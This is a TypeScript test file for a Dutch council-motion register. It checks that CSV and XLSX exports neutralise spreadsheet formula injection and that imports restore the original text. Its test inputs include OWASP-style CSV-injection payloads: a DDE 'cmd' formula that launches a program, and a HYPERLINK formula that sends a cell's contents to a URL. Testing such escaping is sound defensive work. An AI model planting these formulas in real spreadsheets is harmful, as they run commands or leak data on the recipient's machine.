import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Overzicht, OverzichtItem } from '../core/model/overzicht.js';
import { openRegister, type Register } from '../db/connection.js';
import { guessMapping, mapRows, readTable } from '../services/register/import/index.js';
import { importItems } from '../services/register/import/store.js';
import { overzichtCsv } from '../services/register/overzicht-csv.js';
import { searchItems } from '../services/register/search.js';
import { safeCell, unmarkCell } from '../services/spreadsheet-cells.js';
import { makeTempDir, removeTempDir, ROOT } from './helpers/assets.js';

/** Texts a spreadsheet would run as a formula, from OWASP's "CSV Injection" and the issue. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?x="&A1,"Klik hier")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

/** Texts that start like a formula but are none, and ordinary text: left exactly as they are. */
const HARMLESS = ['-5', '+31', '-3,5', '1e-3', '2026-03-14', 'Financiële ruimte', "'tekst", ''];

describe('a cell in a CSV or XLSX Raadsnota writes', () => {
  it.each(FORMULAS)('gets a single quote before %j', (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
  });

  it.each(HARMLESS)('stays as it is: %j', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('also marks a text that already starts with a quote before a formula, so that the way back is exact', () => {
    expect(safeCell("'=1+1")).toBe("''=1+1");
  });

  it('reads back as the same text: the import takes off the one quote the export added, and no other', () => {
    const texts = [...FORMULAS, ...HARMLESS, "'=1+1", "''@x", "'-5"];
    for (const text of texts) expect(unmarkCell(safeCell(text))).toBe(text);
    expect(unmarkCell("'-5")).toBe("'-5");
    expect(unmarkCell("'tekst")).toBe("'tekst");
    expect(unmarkCell("'=1")).toBe('=1');
  });
});

const item = (nummer: string, onderwerp: string): OverzichtItem => ({
  soort: 'motie',
  nummer,
  onderwerp,
  vergadering: 'Raad 12 maart 2026',
  portefeuillehouder: 'Wethouder De Groot',
  status: 'open',
  teLaat: false,
});

// A register's text is trimmed, so no onderwerp starts with a tab or a carriage return.
const TITLES = [...FORMULAS.filter((t) => t.trim() === t), "'=1+1", 'Financiële ruimte', '-5'];
const OVERZICHT: Overzicht = {
  peildatum: '2026-06-01',
  items: TITLES.map((titel, i) => item(`M-${i + 1}`, titel)),
};

describe('the overview as CSV', () => {
  it('puts a quote before every cell Excel would run as a formula, and leaves the rest readable', () => {
    const records: string[][] = parse(overzichtCsv(OVERZICHT), { delimiter: ';', bom: true });
    const onderwerpen = records.slice(1).map((r) => r[2]);
    expect(onderwerpen).toEqual(TITLES.map((t) => (t === '-5' || t.startsWith('F') ? t : `'${t}`)));
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('imports back into the same titles, quote and all taken off again', async () => {
    const table = await readTable(new TextEncoder().encode(overzichtCsv(OVERZICHT)), 'stand.csv');
    const result = mapRows(table, guessMapping(table.header));
    expect(result.errors).toEqual([]);
    expect(result.items.map((d) => ('titel' in d.item ? d.item.titel : ''))).toEqual(
      OVERZICHT.items.map((i) => i.onderwerp),
    );
  });
});

describe('importing text that looks like a formula', () => {
  let dir: string;
  let db: Register;
  beforeEach(async () => {
    dir = await makeTempDir();
    db = openRegister(join(dir, 'register.sqlite'), join(ROOT, 'db', 'migrations'), { create: true });
  });
  afterEach(async () => {
    db.close();
    await removeTempDir(dir);
  });

  const HYPERLINK = '=HYPERLINK("https://example.org","Klik hier")';

  async function storedTitle(bytes: Uint8Array, fileName: string): Promise<string | undefined> {
    const table = await readTable(bytes, fileName);
    const result = mapRows(table, guessMapping(table.header, 'motie'));
    expect(result.errors).toEqual([]);
    importItems(
      db,
      result.items.map((d) => ({ ...d.item, nummerreeks: '2026' })),
      { door: 'test', op: '2026-06-01T09:00:00Z' },
    );
    const [stored] = searchItems(db, {}).items;
    return stored?.soort === 'motie' ? stored.titel : undefined;
  }

  it('stores the text of a CSV cell exactly as it stands', async () => {
    const csv = `Nummer;Titel;Vergadering;Status\r\nM-1;"${HYPERLINK.replaceAll('"', '""')}";Raad;open\r\n`;
    expect(await storedTitle(new TextEncoder().encode(csv), 'lijst.csv')).toBe(HYPERLINK);
  });

  it('stores the text of an XLSX text cell exactly as it stands', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Blad1');
    sheet.addRow(['Nummer', 'Titel', 'Vergadering', 'Status']);
    sheet.addRow(['M-1', HYPERLINK, 'Raad', 'open']);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    expect(await storedTitle(bytes, 'lijst.xlsx')).toBe(HYPERLINK);
  });
});
